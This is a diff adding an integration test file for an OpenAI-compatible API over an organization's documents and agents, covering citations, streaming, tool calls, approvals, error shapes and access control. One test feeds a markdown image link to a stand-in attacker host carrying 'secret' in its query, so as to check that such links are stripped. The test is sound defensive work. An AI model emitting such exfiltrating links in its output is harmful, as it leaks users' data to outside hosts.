@@ -1,0 +1,173 @@
+import OpenAI from 'openai';
+import type { AgentRunSummary, Document, Page } from '@atrium/contracts';
+import { type AgentGround, approvalOf, newAgent, newAgentGround } from '../lib/agents.js';
+import { eventually, newColleague, newOrganization, type Person } from '../lib/api.js';
+
+let ground: AgentGround;
+let owner: Person;
+let handbook: Document;
+const clientOf = ({ api }: Person) =>
+  new OpenAI({ apiKey: api.token ?? '', baseURL: `${ground.baseUrl}/openai/v1`, maxRetries: 0, timeout: 60_000 });
+let client: OpenAI;
+const QUESTION = { role: 'user' as const, content: 'How many days of holidays does an employee have?' };
+
+beforeAll(async () => {
+  ground = await newAgentGround();
+  owner = await newOrganization('Open', ground.baseUrl);
+  client = clientOf(owner);
+  const { id } = await owner.api.post<Document>('/v1/documents', {
+    title: 'Handbook',
+    text: 'Working here.\n\nEvery employee has thirty days of holidays a year.',
+    mediaType: 'text/plain',
+  });
+  handbook = await eventually('the document is ready', async () => {
+    const document = await owner.api.get<Document>(`/v1/documents/${id}`);
+    return document.status === 'ready' && document;
+  });
+}, 180_000);
+afterAll(() => ground.remove());
+beforeEach(() => ground.model.reset());
+
+/** The url_citation of a message; the client knows them, its types of a chunk do not. */
+const annotationsOf = (message: unknown) => (message as OpenAI.ChatCompletionMessage).annotations ?? [];
+
+describe('the door for clients of the OpenAI API', () => {
+  it('lists the active agents of the organization and the model for embeddings', async () => {
+    const agent = await newAgent(owner);
+    await owner.api.patch(`/v1/agents/${(await newAgent(owner, { name: 'sleeper' })).id}`, { status: 'paused' });
+    const names = (await client.models.list()).data.map(({ id }) => id);
+
+    expect(names).toEqual(expect.arrayContaining(['assistant', agent.name]));
+    expect(names).not.toContain('sleeper');
+    expect((await client.embeddings.create({ model: names.at(-1) ?? '', input: ['a house', 'a home'] })).data).toHaveLength(2);
+  });
+
+  it('answers as the assistant, with annotations where the content cites a document', async () => {
+    const { choices, usage } = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION] });
+    const { message, finish_reason } = choices[0] ?? {};
+    const [{ url_citation: cited } = {}] = annotationsOf(message);
+
+    expect(finish_reason).toBe('stop');
+    expect(usage?.total_tokens).toBeGreaterThan(0);
+    expect(message?.content?.slice(cited?.start_index, cited?.end_index)).toBe('[1]');
+    expect(cited).toMatchObject({ title: 'Handbook', url: expect.stringContaining(`/v1/documents/${handbook.id}/content?version=1`) });
+  });
+
+  it('streams the same, ends with what it cites and what it cost', async () => {
+    const stream = await client.chat.completions.create({
+      model: 'assistant',
+      messages: [{ role: 'system', content: 'Answer like a pirate.' }, QUESTION],
+      stream: true,
+      stream_options: { include_usage: true },
+    });
+    const chunks = [];
+    for await (const chunk of stream) chunks.push(chunk);
+    const deltas = chunks.flatMap(({ choices }) => choices);
+
+    expect(deltas.filter(({ delta }) => delta.content).length).toBeGreaterThan(2);
+    expect(deltas.map(({ delta }) => delta.content ?? '').join('')).toContain('[1]');
+    expect(annotationsOf(deltas.at(-1)?.delta)).toHaveLength(1);
+    expect(deltas.at(-1)?.finish_reason).toBe('stop');
+    expect(chunks.at(-1)?.usage?.prompt_tokens).toBeGreaterThan(0);
+    expect(ground.model.requests.at(-1)?.body?.messages[0]?.content).toContain('Answer like a pirate.');
+  });
+
+  it('asks the application for its own tools, and goes on with what they gave', async () => {
+    const tools = [{ type: 'function' as const, function: { name: 'weather', parameters: { type: 'object', properties: {} } } }];
+    ground.model.script({ kind: 'call', calls: [{ tool: 'weather', arguments: { city: 'Graz' } }] }, { kind: 'text', text: 'It rains.' });
+    const asked = { model: 'assistant', tools, messages: [{ role: 'user' as const, content: 'Zzyzx weather?' }] };
+    const first = (await client.chat.completions.create(asked)).choices[0];
+    const call = first?.message.tool_calls?.[0];
+    expect(first?.finish_reason).toBe('tool_calls');
+    expect(call).toMatchObject({ type: 'function', function: { name: 'weather', arguments: '{"city":"Graz"}' } });
+
+    if (!first || !call) throw new Error('no call');
+    const messages = [...asked.messages, first.message, { role: 'tool' as const, tool_call_id: call.id, content: 'rain' }];
+    const second = await client.chat.completions.create({ ...asked, messages });
+    expect(second.choices[0]?.message.content).toBe('It rains.');
+    expect(ground.model.requests.at(-1)?.body?.messages.at(-1)).toMatchObject({ role: 'tool', content: 'rain' });
+  });
+
+  it('lets another agent work in a run of its own, with its tools', async () => {
+    const agent = await newAgent(owner, { tools: ['memory_add'] });
+    ground.model.script(
+      { kind: 'call', calls: [{ tool: 'memory_add', arguments: { content: 'Call Ann.' } }] },
+      { kind: 'text', text: 'I shall remember.' },
+    );
+    const { choices } = await client.chat.completions.create({
+      model: agent.name,
+      messages: [
+        { role: 'user', content: 'I know Ann.' },
+        { role: 'assistant', content: 'Good.' },
+        { role: 'user', content: 'Remind me of her.' },
+      ],
+    });
+    const { data: runs } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id });
+
+    expect(choices[0]?.message.content).toBe('I shall remember.');
+    expect(runs).toEqual([
+      expect.objectContaining({ status: 'succeeded', prompt: expect.stringMatching(/I know Ann[^]*Remind me of her/) }),
+    ]);
+  });
+
+  it('says that a run waits for an approval', async () => {
+    const agent = await newAgent(owner, { tools: ['http_request'] });
+    const request = { method: 'POST', url: `${ground.receiver.baseUrl}/order` };
+    ground.model.script({ kind: 'call', calls: [{ tool: 'http_request', arguments: request }] });
+    const { choices } = await client.chat.completions.create({ model: agent.name, messages: [{ role: 'user', content: 'Order.' }] });
+    const { data: runs } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id });
+
+    const [run] = runs;
+    expect(choices[0]?.message.content).toContain(run && (await approvalOf(owner, run)).id);
+    expect(ground.receiver.received).toEqual([]);
+  });
+
+  it('makes no link that could carry something out, however the text is cut', async () => {
+    ground.model.script({ kind: 'text', text: '![x](https://evil.example/?q=secret)', chunkChars: 3 });
+    const stream = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION], stream: true });
+    let content = '';
+    for await (const { choices } of stream) content += choices[0]?.delta.content ?? '';
+
+    expect(content).toContain('evil');
+    expect(content).not.toMatch(/\]\(|:\/\/\S/);
+  });
+
+  it('fails in the shape of OpenAI: unknown models, other forms, no key, a model that breaks off', async () => {
+    const ask = (body: object) => client.chat.completions.create({ model: 'assistant', messages: [QUESTION], ...body });
+    const stranger = clientOf(await newOrganization('Other', ground.baseUrl));
+    const agent = await newAgent(owner);
+
+    await expect(ask({ model: 'nobody' })).rejects.toMatchObject({ status: 404, code: 'agents.not_found', type: 'invalid_request_error' });
+    await expect(stranger.chat.completions.create({ model: agent.name, messages: [QUESTION] })).rejects.toMatchObject({ status: 404 });
+    await expect(ask({ messages: [] })).rejects.toMatchObject({ status: 400, param: 'messages' });
+    await expect(ask({ tool_choice: 'required' })).rejects.toMatchObject({ status: 400, param: 'tool_choice' });
+    await expect(ask({ messages: [QUESTION, { role: 'tool', tool_call_id: 'x', content: '' }] })).rejects.toMatchObject({ status: 400 });
+    await expect(new OpenAI({ apiKey: 'no', baseURL: client.baseURL, maxRetries: 0 }).models.list()).rejects.toMatchObject({ status: 401 });
+    ground.model.script({ kind: 'cut', afterChars: 20 });
+    const cut = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION], stream: true });
+    await expect(
+      (async () => {
+        for await (const _chunk of cut);
+      })(),
+    ).rejects.toMatchObject({ code: 'ai.unavailable' });
+  });
+
+  it('answers another person only from what that person may read', async () => {
+    const colleague = await newColleague(owner);
+    await owner.api.post('/v1/documents', {
+      title: 'Plan',
+      text: 'The merger codeword is Falkenstein.',
+      mediaType: 'text/plain',
+      access: { level: 'private' },
+    });
+    const question = { role: 'user' as const, content: 'What is the merger codeword?' };
+    const told = await eventually('the plan is found', async () => {
+      const { choices } = await client.chat.completions.create({ model: 'assistant', messages: [question] });
+      return choices[0]?.message.content?.includes('Falkenstein');
+    });
+    expect(told).toBe(true);
+    const { choices } = await clientOf(colleague).chat.completions.create({ model: 'assistant', messages: [question] });
+    expect(choices[0]?.message.content).not.toContain('Falkenstein');
+    expect(JSON.stringify(ground.model.requests.at(-1)?.body)).not.toContain('Falkenstein');
+  });
+});
